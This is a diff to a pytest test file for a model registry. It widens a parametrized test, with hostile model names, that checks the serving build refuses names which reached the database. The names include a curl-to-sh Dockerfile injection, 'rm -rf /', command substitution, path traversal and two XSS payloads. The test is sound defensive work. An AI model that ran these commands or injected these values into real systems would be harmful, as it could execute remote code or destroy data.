@@ -26,7 +26,6 @@ from registry import tasks as registry_tasks
 from registry.models import ModelVersion, RegisteredModel, VersionStatus
 from registry.storage import materialize_version
 from tests.registry import onnx_files
-from tests.security.world import xss
 
 pytestmark = pytest.mark.django_db
 
@@ -96,7 +95,18 @@ def test_the_serving_dockerfile_takes_no_user_text():
 
 @pytest.mark.parametrize(
     "name",
-    ["x\nRUN curl evil|sh", "x; rm -rf /", "x$(id)", "--label=evil", "x y", "../x", xss("name")],
+    [
+        "x\nRUN curl evil|sh",
+        "x; rm -rf /",
+        "x$(id)",
+        "--label=evil",
+        "x y",
+        "../x",
+        # Short enough for the name column (63) on every database: the point is a hostile name
+        # that reached the database, not one the column would have refused.
+        '"><script>alert("name")</script>',
+        "<img src=x onerror=alert(1)>",
+    ],
 )
 def test_a_hostile_model_name_in_the_database_stops_the_build(world, name):
     """Names are validated on the way in; if one got past (a bad migration, the admin's raw
